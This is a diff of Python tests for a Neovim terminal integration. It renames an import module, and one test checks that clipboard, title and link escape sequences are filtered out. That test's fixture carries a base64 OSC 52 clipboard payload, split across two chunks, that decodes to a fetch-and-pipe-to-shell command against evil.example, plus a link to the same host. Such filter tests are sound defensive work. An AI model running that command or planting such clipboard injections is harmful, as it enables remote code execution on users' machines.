@@ -185,7 +185,7 @@ def test_a_big_terminal_output_reaches_neovim_whole_in_bounded_frames(
     """Issue 14 item 5: 80,000 lines (960 KB: under the 1 MiB terminal output limit, ~30
     frames' slices) arrive at once; frames go on by themselves until all of it, then the
     exit status, are applied."""
-    from louise.capabilities.terminal import (
+    from louise.capabilities.terminal_events import (
         ExitStatus,
         TerminalCreated,
         TerminalExited,
@@ -217,7 +217,7 @@ def test_terminals_past_the_per_frame_bound_reach_neovim_in_later_frames(
         engine: Engine, ui: FakeNeovim) -> None:
     """Issue 21 item 9: 300 terminals starting, writing and ending while Neovim is busy
     with a frame used to lose all but 256 of them (no command, no output, no exit)."""
-    from louise.capabilities.terminal import (
+    from louise.capabilities.terminal_events import (
         ExitStatus,
         TerminalCreated,
         TerminalExited,
@@ -254,7 +254,7 @@ def test_terminal_output_reaches_neovim_without_clipboard_or_title_sequences(
         engine: Engine, ui: FakeNeovim) -> None:
     """Issue 21 item 1: OSC 52 (the clipboard), OSC 0/2 (the title), OSC 8 (links) and DCS
     never reach Neovim's terminal emulator, even split across two chunks; colours do."""
-    from louise.capabilities.terminal import TerminalOutput
+    from louise.capabilities.terminal_events import TerminalOutput
 
     chunks = ["ok \x1b[31mred\x1b[0m \x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3gg",
               "fCBzaA==\x07\x1b]2;title\x07\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b",
